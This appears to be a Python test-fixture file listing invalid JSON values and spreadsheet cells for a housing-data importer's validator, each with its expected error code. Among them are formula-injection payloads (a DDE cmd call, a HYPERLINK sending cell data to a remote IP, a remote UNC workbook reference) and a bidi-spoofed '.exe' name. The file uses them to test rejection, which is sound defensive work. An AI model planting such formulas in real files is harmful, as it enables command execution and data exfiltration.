"""Values that their column cannot hold, in both forms."""

from __future__ import annotations

from typing import Any

from tests.corpus.bad_file import BadFile, bad_json, bad_workbook
from tests.corpus.house import house_with, text_cell, workbook_with

_LONG = "x" * 65
_RIGHT_TO_LEFT = "\u202e"

JSON_VALUES: tuple[tuple[str, str, Any, str], ...] = (
    # texts
    ("facilities", "name", 7, "WRONG_TYPE"),
    ("facilities", "name", True, "WRONG_TYPE"),
    ("facilities", "name", ["Haus"], "WRONG_TYPE"),
    ("facilities", "name", {"de": "Haus"}, "WRONG_TYPE"),
    ("facilities", "name", 1.5, "WRONG_TYPE"),
    ("facilities", "name", "x" * 201, "TEXT_TOO_LONG"),
    ("facilities", "name", "Haus\0", "FORBIDDEN_CHARACTER"),
    ("facilities", "name", "Haus\nHof", "FORBIDDEN_CHARACTER"),
    ("facilities", "name", "Haus\tHof", "FORBIDDEN_CHARACTER"),
    ("facilities", "name", "Haus\x1b[31m", "FORBIDDEN_CHARACTER"),
    ("facilities", "name", "Haus\x7f", "FORBIDDEN_CHARACTER"),
    ("facilities", "name", "Haus\u0085Hof", "FORBIDDEN_CHARACTER"),
    ("facilities", "name", "Haus\u2028Hof", "FORBIDDEN_CHARACTER"),
    ("facilities", "name", f"Haus {_RIGHT_TO_LEFT}fdp.exe", "FORBIDDEN_CHARACTER"),
    ("facilities", "name", "Haus \u202a", "FORBIDDEN_CHARACTER"),
    ("facilities", "name", "Haus \u2066", "FORBIDDEN_CHARACTER"),
    ("facilities", "name", "Haus \ufdd0", "FORBIDDEN_CHARACTER"),
    ("facilities", "name", "Haus \uffff", "FORBIDDEN_CHARACTER"),
    ("facilities", "name", "H" + "\u0301" * 31, "FORBIDDEN_CHARACTER"),
    ("facilities", "name", "H" + "\u0301\u0323" * 50_000, "TEXT_TOO_LONG"),
    ("facilities", "name", "   ", "MISSING"),
    ("facilities", "name", None, "MISSING"),
    ("facilities", "name", ..., "MISSING"),
    ("facilities", "name", "\u00a0\u2003", "MISSING"),
    ("residents", "note", "Hinweis\0", "FORBIDDEN_CHARACTER"),
    ("residents", "note", "x" * 2001, "TEXT_TOO_LONG"),
    ("residents", "note", 17, "WRONG_TYPE"),
    # keys
    ("payers", "key", _LONG, "TEXT_TOO_LONG"),
    ("residents", "key", 17, "WRONG_TYPE"),
    ("closures", "key", "S" * 65, "TEXT_TOO_LONG"),
    ("closures", "key", "", "MISSING"),
    ("closures", "key", None, "MISSING"),
    ("closures", "key", f"S{_RIGHT_TO_LEFT}", "FORBIDDEN_CHARACTER"),
    ("closures", "bed", _LONG, "TEXT_TOO_LONG"),
    ("closures", "bed", ["MUSTER-A-001-2"], "WRONG_TYPE"),
    ("closures", "bed", "muster-a-001-2", "UNKNOWN_REFERENCE"),
    ("closures", "bed", "MUSTER-A-001-\u200b2", "UNKNOWN_REFERENCE"),
    ("closures", "bed", "МUSTER-A-001-2", "UNKNOWN_REFERENCE"),
    # codes
    ("facilities", "municipality_code", "1206154", "UNKNOWN_WORD"),
    ("facilities", "municipality_code", "120615400", "UNKNOWN_WORD"),
    ("facilities", "municipality_code", "1206154O", "UNKNOWN_WORD"),
    ("facilities", "municipality_code", "١٢٠٦١٥٤٠", "UNKNOWN_WORD"),
    ("facilities", "municipality_code", 12061540, "WRONG_TYPE"),
    ("residents", "nationality", "Syrien", "UNKNOWN_WORD"),
    ("residents", "nationality", "SY", "UNKNOWN_WORD"),
    ("residents", "nationality", ["SYR"], "WRONG_TYPE"),
    ("residents", "languages", ["arabisch"], "UNKNOWN_WORD"),
    ("residents", "languages", "ar", "WRONG_TYPE"),
    ("residents", "languages", [None], "WRONG_TYPE"),
    ("residents", "languages", [["ar"]], "WRONG_TYPE"),
    ("residents", "needs", ["Rollstuhl"], "UNKNOWN_WORD"),
    ("residents", "needs", {"wheelchair": True}, "WRONG_TYPE"),
    # words
    ("facilities", "kind", "Gemeinschaftsunterkunft", "UNKNOWN_WORD"),
    ("facilities", "kind", "Communal", "UNKNOWN_WORD"),
    ("facilities", "kind", "соmmunal", "UNKNOWN_WORD"),
    ("facilities", "kind", 1, "WRONG_TYPE"),
    ("rooms", "use", "bedroom", "UNKNOWN_WORD"),
    ("rooms", "designation", "all", "UNKNOWN_WORD"),
    ("rooms", "features", ["wifi", "sea_view"], "UNKNOWN_WORD"),
    ("beds", "kind", "double", "UNKNOWN_WORD"),
    ("closures", "reason", "", "MISSING"),
    ("residents", "gender", "w", "UNKNOWN_WORD"),
    ("residence_statuses", "status", "duldung", "UNKNOWN_WORD"),
    ("residence_statuses", "status", None, "MISSING"),
    ("household_members", "role", "uncle", "UNKNOWN_WORD"),
    ("attendance", "state", "s" * 65, "TEXT_TOO_LONG"),
    ("attendance", "state", 3, "WRONG_TYPE"),
    ("cost_coverages", "rule", "half", "UNKNOWN_WORD"),
    ("stays", "departure", "Gone", "UNKNOWN_WORD"),
    # yes and no
    ("residents", "restricted", "ja", "NOT_YES_OR_NO"),
    ("residents", "restricted", 1, "NOT_YES_OR_NO"),
    ("residents", "restricted", "true", "NOT_YES_OR_NO"),
    ("residents", "restricted", {}, "NOT_YES_OR_NO"),
    # whole numbers
    ("floors", "level", "EG", "NOT_A_NUMBER"),
    ("floors", "level", 1.5, "NOT_A_NUMBER"),
    ("floors", "level", 1e3, "NOT_A_NUMBER"),
    ("floors", "level", True, "NOT_A_NUMBER"),
    ("floors", "level", -21, "NUMBER_OUT_OF_RANGE"),
    ("floors", "level", 10**40, "NOT_A_NUMBER"),
    ("floors", "level", 2**63, "NOT_A_NUMBER"),
    ("floors", "level", "٣", "NOT_A_NUMBER"),
    ("floors", "level", [0], "NOT_A_NUMBER"),
    ("rooms", "approved_places", -1, "NEGATIVE_NUMBER"),
    ("rooms", "approved_places", 10_001, "NUMBER_OUT_OF_RANGE"),
    ("expected_arrivals", "persons", 0, "NUMBER_OUT_OF_RANGE"),
    ("expected_arrivals", "persons", -4, "NEGATIVE_NUMBER"),
    ("operator_contracts", "capacity", -2, "NEGATIVE_NUMBER"),
    # decimal numbers
    ("rooms", "area_m2", "viel", "NOT_A_NUMBER"),
    ("rooms", "area_m2", "18,4", "NOT_A_NUMBER"),
    ("rooms", "area_m2", "18.4 m²", "NOT_A_NUMBER"),
    ("rooms", "area_m2", "-18.4", "NEGATIVE_NUMBER"),
    ("rooms", "area_m2", -0.5, "NEGATIVE_NUMBER"),
    ("rooms", "area_m2", "18.40001", "TOO_MANY_PLACES"),
    ("rooms", "area_m2", 1e300, "NUMBER_OUT_OF_RANGE"),
    ("rooms", "area_m2", 1e-300, "TOO_MANY_PLACES"),
    ("rooms", "area_m2", "1e3", "NOT_A_NUMBER"),
    ("rooms", "area_m2", "NaN", "NOT_A_NUMBER"),
    ("rooms", "area_m2", "Infinity", "NOT_A_NUMBER"),
    ("rooms", "area_m2", "0x12", "NOT_A_NUMBER"),
    ("rooms", "area_m2", "1_000", "NOT_A_NUMBER"),
    ("rooms", "area_m2", "9" * 16, "NOT_A_NUMBER"),
    ("rooms", "area_m2", "9" * 5000, "NOT_A_NUMBER"),
    ("rooms", "area_m2", False, "NOT_A_NUMBER"),
    ("incomes", "countable_income", "-1.00", "NEGATIVE_NUMBER"),
    ("incomes", "threshold", ..., "MISSING"),
    ("overrides", "amount", "-120.00", "NEGATIVE_NUMBER"),
    ("operator_contracts", "guaranteed_share", "1.1", "NUMBER_OUT_OF_RANGE"),
    ("operator_contracts", "guaranteed_share", "80 %", "NOT_A_NUMBER"),
    ("operator_contracts", "occupied_rate", "", "MISSING"),
    ("cost_coverages", "value", "100.01", "NUMBER_OUT_OF_RANGE"),
    ("cost_coverages", "value", ..., "MISSING"),
    ("meter_readings", "consumption", "1.000,5", "NOT_A_NUMBER"),
    # days and months
    ("residents", "birth_date", "17.05.1994", "NOT_A_DAY"),
    ("residents", "birth_date", "1994-5-17", "NOT_A_DAY"),
    ("residents", "birth_date", "1994-02-30", "NOT_A_DAY"),
    ("residents", "birth_date", "1900-02-29", "NOT_A_DAY"),
    ("residents", "birth_date", "1994-05-17T00:00:00", "NOT_A_DAY"),
    ("residents", "birth_date", "1899-12-31", "DAY_OUT_OF_RANGE"),
    ("residents", "birth_date", "0000-00-00", "NOT_A_DAY"),
    ("residents", "birth_date", "9999-12-31", "DAY_OUT_OF_RANGE"),
    ("residents", "birth_date", "2100-01-01", "IN_THE_FUTURE"),
    ("residents", "birth_date", "unbekannt", "NOT_A_DAY"),
    ("residents", "birth_date", "١٩٩٤-٠٥-١٧", "NOT_A_DAY"),
    ("residents", "birth_date", 34471, "NOT_A_DAY"),
    ("residents", "birth_date", False, "NOT_A_DAY"),
    ("stays", "moved_in_on", None, "MISSING"),
    ("overrides", "month", "Mai 2026", "NOT_A_MONTH"),
    ("overrides", "month", "2026-13", "NOT_A_MONTH"),
    ("overrides", "month", "2026-05-01", "NOT_A_MONTH"),
    ("overrides", "month", 202605, "NOT_A_MONTH"),
    ("meter_readings", "month", ..., "MISSING"),
    # outlines
    ("rooms", "outline", "0,0; 1,0; 1,1", "NOT_AN_OUTLINE"),
    ("rooms", "outline", [[0, 0], [1, 0]], "NOT_AN_OUTLINE"),
    ("rooms", "outline", [[0, 0], [1, 0], [1]], "NOT_AN_OUTLINE"),
    ("rooms", "outline", [[0, 0], [1, 0], [1, None]], "NOT_AN_OUTLINE"),
    ("rooms", "outline", [[0, 0], [1, 0], [1, 1e9]], "NOT_AN_OUTLINE"),
    ("rooms", "outline", [[0, 0], [1, 0], ["1", "x"]], "NOT_AN_OUTLINE"),
    ("rooms", "outline", [[0, 0]] * 501, "NOT_AN_OUTLINE"),
    ("rooms", "outline", {"x": 1}, "NOT_AN_OUTLINE"),
    ("rooms", "outline", [[[0]], [[1]], [[2]]], "NOT_AN_OUTLINE"),
)
"""Kind, field, what the field holds, the codes."""


def _number(text: str, style: int = 0) -> str:
    return f'<c s="{style}"><v>{text}</v></c>'


def _error(text: str) -> str:
    return f'<c t="e"><v>{text}</v></c>'


CELL_VALUES: tuple[tuple[str, str, str, str, str], ...] = (
    # errors, formulas, answers
    *(
        (f"error {error}", "rooms", "area_m2", _error(error), "CELL_ERROR")
        for error in ("#REF!", "#N/A", "#NAME?", "#DIV/0!", "#VALUE!", "#NUM!", "#NULL!", "#SPILL!")
    ),
    ("error as key", "closures", "key", _error("#REF!"), "CELL_ERROR"),
    ("error as day", "stays", "moved_in_on", _error("#VALUE!"), "CELL_ERROR"),
    ("error as word", "rooms", "use", _error("#N/A"), "CELL_ERROR"),
    ("error as list", "residents", "needs", _error("#N/A"), "CELL_ERROR"),
    ("error as answer", "residents", "restricted", _error("#N/A"), "CELL_ERROR"),
    ("error as reference", "closures", "bed", _error("#REF!"), "CELL_ERROR"),
    ("error as month", "overrides", "month", _error("#REF!"), "CELL_ERROR"),
    ("error as outline", "rooms", "outline", _error("#REF!"), "CELL_ERROR"),
    ("error as document", "tariffs", "document", _error("#REF!"), "CELL_ERROR"),
    ("formula never computed", "rooms", "number", "<c><f>A1&amp;A2</f></c>", "FORMULA_NOT_COMPUTED"),
    ("call of a program", "rooms", "number", "<c><f>cmd|'/C calc'!A0</f></c>", "FORMULA_NOT_COMPUTED"),
    (
        "link to the net",
        "rooms",
        "number",
        '<c><f>HYPERLINK("http://203.0.113.1/"&amp;A1)</f></c>',
        "FORMULA_NOT_COMPUTED",
    ),
    (
        "formula on another file",
        "rooms",
        "number",
        "<c><f>'\\\\203.0.113.1\\x\\[a.xlsx]T'!A1</f></c>",
        "FORMULA_NOT_COMPUTED",
    ),
    ("formula with an error", "rooms", "number", '<c t="e"><f>1/0</f><v>#DIV/0!</v></c>', "CELL_ERROR"),
    (
        "formula with the result of another kind",
        "stays",
        "moved_in_on",
        '<c t="str"><f>A1</f><v>bald</v></c>',
        "NOT_A_DAY",
    ),
    ("answer as number", "rooms", "area_m2", '<c t="b"><v>1</v></c>', "NOT_A_NUMBER"),
    ("answer as text", "rooms", "number", '<c t="b"><v>1</v></c>', "WRONG_TYPE"),
    ("answer as day", "stays", "moved_in_on", '<c t="b"><v>0</v></c>', "NOT_A_DAY"),
    # texts
    ("day as text", "rooms", "number", _number("46083", 1), "WRONG_TYPE"),
    ("moment as text", "rooms", "number", _number("46083.5", 2), "WRONG_TYPE"),
    ("day as key", "closures", "key", _number("46083", 1), "WRONG_TYPE"),
    ("key of 65 characters", "closures", "key", text_cell("S" * 65), "TEXT_TOO_LONG"),
    ("text of 32,767 characters", "rooms", "number", text_cell("x" * 32_767), "TEXT_TOO_LONG"),
    ("text of a million characters", "rooms", "number", text_cell("x" * 1_000_000), "TEXT_TOO_LONG"),
    ("text longer than any", "rooms", "number", text_cell("x" * 1_000_001), "NOT_A_WORKBOOK"),
    ("endless marks", "rooms", "number", text_cell("x" + "\u0301\u0323" * 400_000), "TEXT_TOO_LONG"),
    ("bidi override", "rooms", "number", text_cell("\u202e101"), "FORBIDDEN_CHARACTER"),
    ("line in a name", "rooms", "number", text_cell("1\n2"), "FORBIDDEN_CHARACTER"),
    ("nothing but blanks", "rooms", "number", text_cell(" \u00a0 "), "MISSING"),
    # numbers
    ("text with a word", "rooms", "area_m2", text_cell("18 qm"), "NOT_A_NUMBER"),
    ("point of thousands alone", "rooms", "area_m2", text_cell("1.234"), "NOT_A_NUMBER"),
    ("points and commas mixed", "rooms", "area_m2", text_cell("1,234.5"), "NOT_A_NUMBER"),
    ("no-break space of thousands", "rooms", "area_m2", text_cell("1\u00a0234,5"), "NOT_A_NUMBER"),
    ("thin space of thousands", "rooms", "area_m2", text_cell("1\u2009234,5"), "NOT_A_NUMBER"),
    ("apostrophe of thousands", "rooms", "area_m2", text_cell("1'234,5"), "NOT_A_NUMBER"),
    ("amount with its currency", "overrides", "amount", text_cell("120,00 €"), "NOT_A_NUMBER"),
    ("exponent as text", "rooms", "area_m2", text_cell("1,84E+01"), "NOT_A_NUMBER"),
    ("number too large", "rooms", "area_m2", _number("1E+300"), "NUMBER_OUT_OF_RANGE"),
    ("number beyond measure", "rooms", "area_m2", _number("1E+999"), "CELL_ERROR"),
    ("negative number", "rooms", "area_m2", _number("-18.4"), "NEGATIVE_NUMBER"),
    ("too many places", "rooms", "area_m2", _number("18.123456"), "TOO_MANY_PLACES"),
    ("day as number", "rooms", "area_m2", _number("18", 1), "NOT_A_NUMBER"),
    ("half a floor", "floors", "level", _number("0.5"), "NOT_A_NUMBER"),
    ("floor far away", "floors", "level", _number("1000000"), "NUMBER_OUT_OF_RANGE"),
    ("share in per cent", "operator_contracts", "guaranteed_share", _number("80"), "NUMBER_OUT_OF_RANGE"),
    ("per cent sign", "operator_contracts", "guaranteed_share", text_cell("80 %"), "NOT_A_NUMBER"),
    # days
    ("number without a format", "stays", "moved_in_on", _number("46083"), "NOT_A_DAY"),
    ("day with an hour", "stays", "moved_in_on", _number("46083.5", 2), "NOT_A_DAY"),
    ("hour alone", "stays", "moved_in_on", _number("0.5", 2), "NOT_A_DAY"),
    ("day zero", "stays", "moved_in_on", _number("0", 1), "NOT_A_DAY"),
    ("29.02.1900", "residents", "birth_date", _number("60", 1), "CELL_ERROR"),
    ("day before the first", "residents", "birth_date", _number("-1", 1), "CELL_ERROR"),
    ("day beyond the last", "residents", "birth_date", _number("2958466", 1), "CELL_ERROR"),
    ("last day of Excel", "residents", "birth_date", _number("2958465", 1), "DAY_OUT_OF_RANGE"),
    ("day beyond measure", "residents", "birth_date", _number("1E+300", 1), "CELL_ERROR"),
    *(
        (f"day as text {text}", "residents", "birth_date", text_cell(text), code)
        for text, code in (
            ("29.02.1900", "NOT_A_DAY"),
            ("17.5.94", "NOT_A_DAY"),
            ("17. Mai 1994", "NOT_A_DAY"),
            ("17/05/1994", "NOT_A_DAY"),
            ("05-17-1994", "NOT_A_DAY"),
            ("1994", "NOT_A_DAY"),
            ("00.00.1994", "NOT_A_DAY"),
            ("31.04.1994", "NOT_A_DAY"),
            ("17.05.1894", "DAY_OUT_OF_RANGE"),
            ("unbekannt", "NOT_A_DAY"),
            ("ca. 1994", "NOT_A_DAY"),
            ("17.05.1994 ?", "NOT_A_DAY"),
            ("1994-05-17 00:00:00", "NOT_A_DAY"),
            ("١٧.٠٥.١٩٩٤", "NOT_A_DAY"),
        )
    ),
    ("month with its name", "overrides", "month", text_cell("Mai 2026"), "NOT_A_MONTH"),
    ("month within", "overrides", "month", _number("46157", 1), "NOT_A_MONTH"),
    # words, answers, lists, outlines, documents
    ("unknown word", "rooms", "use", text_cell("Schlafsaal"), "UNKNOWN_WORD"),
    ("number as word", "rooms", "use", _number("1"), "UNKNOWN_WORD"),
    ("perhaps", "residents", "restricted", text_cell("vielleicht"), "NOT_YES_OR_NO"),
    ("cross as answer", "residents", "restricted", text_cell("x"), "NOT_YES_OR_NO"),
    ("list with commas", "residents", "languages", text_cell("ar, de"), "UNKNOWN_WORD"),
    ("list with a stranger", "residents", "needs", text_cell("Rollstuhl; Ruhe; Meerblick"), "UNKNOWN_WORD"),
    ("list of a hundred thousand", "residents", "needs", text_cell("x;" * 100_000), "LIST_TOO_LONG"),
    ("outline of two corners", "rooms", "outline", text_cell("0,0; 1,1"), "NOT_AN_OUTLINE"),
    ("outline with German commas", "rooms", "outline", text_cell("0,0; 4,6,0; 4,6,4,0"), "NOT_AN_OUTLINE"),
    ("outline as number", "rooms", "outline", _number("7"), "NOT_AN_OUTLINE"),
    (
        "postcode with letters of chance",
        "facilities",
        "postcode",
        text_cell("\x7f1234"),
        "FORBIDDEN_CHARACTER",
    ),
)
"""What, kind, field, the cell as it is written, the codes."""

FILES: tuple[BadFile, ...] = (
    *(
        bad_json(f"{kind} {field} {number}", house_with(kind, **{field: value}), codes)
        for number, (kind, field, value, codes) in enumerate(JSON_VALUES, 1)
    ),
    *(
        bad_workbook(f"{what} in {kind} {field}", workbook_with(kind, **{field: cell}), codes)
        for what, kind, field, cell, codes in CELL_VALUES
    ),
)
